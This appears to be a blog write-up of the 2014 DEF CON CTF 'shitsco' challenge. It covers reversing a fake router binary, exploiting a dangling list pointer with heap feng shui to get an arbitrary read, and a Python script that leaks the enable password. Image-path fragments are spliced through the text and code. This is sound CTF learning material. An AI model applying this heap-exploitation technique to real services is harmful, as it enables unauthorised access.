19 May 2014


http://services.2014.shallweplayaga.me/shitsco_c8b1aa3167SIGINT9e945ee64bde1bdb19d035 is running at:


Capture the flag.

Basic binary service? Sure why not.

Poking it with a stick

 oooooooo8 oooo        o88    o8
 888         888ooooo   oooo o888oo  oooooooo8    ooooooo     ooooooo
 888oooooo  888   888   888  888   888ooooooo  888     888 888     888
        888 888   888   888888           888 888         888     888
 o88oooo888 o888o o888o o888o  888o 88oooooo88    88ooo888    88ooo88

Welcome to Shitsco Internet Operating System (IOS)
For a command list, enter ?
$ ?
===Available Commands===
|enable                               |
|ping                                 ||tracert                              |
|?                                    |
|shell                                |
|set                                  |
|show                                 |
|credits                              |
|quit                                 |
Type ? followed by a command for more detailed information
$ enable foo
Nope.  The password isn't foo

Weird fake cisco router thing. Notable looking commands, shell, set, show, enable.

  1. shell is fake, prints “bash-3.2$” then laughs at you.
  2. enable sure does take a password to enable admin access
  3. set sets ‘variables’, show shows them

We started with enable, since sometimes you can get back more data than you send!

A bit later in IDA, we have some function names:Function Names

Enable seems not too exciting, though it does appear to set an admin bit. enable graph

Notably, their read_input function doesn’t properly null terminate strings, so sometimes we can get a few bytes of stack data out of the %s on printf. Unfortunately, this turns out to be completely worthless.

I later realized that this IS useful, I knew I was reading the result of strcmp, but was lazy and didn’t think about the fact that strcmp tells you WHERE the difference starts, so you can trivially brute force the password only 1 character at a time. This would’ve also worked.

On to the other odd looking features of ‘set’ and ‘show’.Show does something like:

if name != null
  print find_value(name)
  node = head
  while node.next!= null
    if node.name != null
      print node

Where the node struct looks like:

struct node{
  char* name;
  char* value;
  struct node* next;
  struct node* prev;

Getting an arbitrary read

Neat, so we can print out values, looking at set, it turns out we can also DELETE values: set delete path

I wonder what happens when we delete the statically allocated head of the list, while having 2 variables set?(gdb) x /20x 0x804C36C
0x804c36c:      0x00000000      0x00000000      0x0804d1c0      0x00000000

[element 2]
(gdb) x /20x 0x0804d1c0
0x804d1c0:      0x0804d1d8      0x0804d1e8      0x00000000      0x00000000

Well, we obviously have to keep that next pointer set! Otherwise it could never traverse to other nodes in the list.

And if we delete the second element now?

(gdb) x /20x 0x804C36C
0x804c36c:      0x00000000      0x00000000      0x0804d1c0      0x00000000

[element 2]
(gdb) x /20x 0x0804d1c0
0x804d1c0:      0x00000000      0x00000000      0x00000000      0x00000000Uh oh… that next pointer still looks pretty valid, and that 2nd element sure did get deleted.

Lets try allocating a new element to the head.

(gdb) x /20x 0x804C36C
0x804c36c:      0x0804d1e8      0x0804d1a0      0x0804d1c0      0x00000000

Those name and value pointers sure do look close to our dangling invalid next ptr.

With a bit of heap feng shui (smart allocation ordering) lets see what we can do.

set a bbb
set bbbbbbbbbbbbbbbb s
set a    [delete]
set bbbbbbbbbbbbbbbb     [delete]
set xxxxxxxxxxxxxxxx f

Allocate the first element normally, then allocate the 2nd element with a name of the exact same size as a struct_node, delete both. Then when we next try to create an element, we need a struct_node (head is available so it uses that) and the next allocation it tries will be for the name (xxx…) which if its the same size as struct_node, will happily take the free’d 2nd elements spot.(gdb) x /20x 0x804C36C
0x804c36c:      0x0804d1d8      0x0804d190      0x0804d1d8      0x00000000

Hey look, our name ptr goes directly to our next pointer! Lets cook up a better name then, say one that has the same structure as a struct_node, and we can read that value whenever we want!

Reading something

Well now that we have a read, letsgo back to enable, and find something to read.

.text:08049267                 mov     [esp+4Ch+buffer], ebx ; s2
.text:0804926B                 mov     [esp+4Ch+stream], offset dword_804C3A0 ; s1
.text:08049272                 call    _strcmp
.text:08049277                 mov     [esp+4Ch+var_14], eax
.text:0804927B                 mov     eax, [esp+4Ch+var_14]
.text:0804927F                 test    eax, eax
.text:08049281                 jz      short loc_80492B8
.text:08049283                 mov     [esp+4Ch+max_length], ebx
.text:08049287                 mov     [esp+4Ch+buffer], offset aNope_ThePasswo ; "Nope.  The password isn't %s\n"
.text:0804928F                 mov     [esp+4Ch+stream], 1
.text:08049296                 call    ___printf_chk

Oh… lets read0x804C3A0.

So our name for our reallocated element is now going to need 2 things. A valid node.name and a valid node.value. Since we want to be able to look this element up by name, and we don’t know 0x804C3A0 yet, lets have that be the value pointer, and go find a good name pointer.

.rodata:080495BC _IO_stdin_used  dd 20001h
.rodata:080495C0 ; char modes[2]
.rodata:080495C0 modes           db 'r',0                ; DATA XREF: init_opening_pw_file+18
.rodata:080495C0                                         ; cmd_flag+24
.rodata:080495C2 ; char filename[]
.rodata:080495C2 filename        db '/home/shitsco/password',0
.rodata:080495C2                                         ; DATA XREF: init_opening_pw_file+20

‘r’ is a pretty good name, no spaces and we know where it is.

Our final name string is thus[ptr to 'r'][0x804C3A0][something][something]


from sock import *
import sys
import time

#host = "localhost:1111"
host = "shitsco_c8b1aa31679e945ee64bde1bdb19d035.2014.shallweplayaga.me:31337"
#con = Sock("localhost:1111")
con = Sock(host)
def go_interactive(con):
    while True:
        print con.read_one(0)

def pause_script():
    raw_input("Paused... Press enter to continue")

namestr = "\xC0\x95\x04\x08"+"\xA0\xC3\x04\x08"*3
valstr = "f"con.send_line("set a bbb")
con.send_line("set "+'b'*16+" s")
con.send_line("set a ")
con.send_line("set "+'b'*16+" ")
con.send_line("set "+namestr+" "+valstr)con.send_line("show "+"r")
data =  con.read_line()

print data
print [hex(ord(x)) for x in data]

Reading the password produces some password: bruT3m3hard3rb4by

Which we then use

$ enable
Please enter a password: bruT3m3hard3rb4byand the (previously unlisted) flag command

# flag
The flag is: Dinosaur vaginas

… Not sure what that had to do with the problem, but itsworth points

blog comments powered by Disqus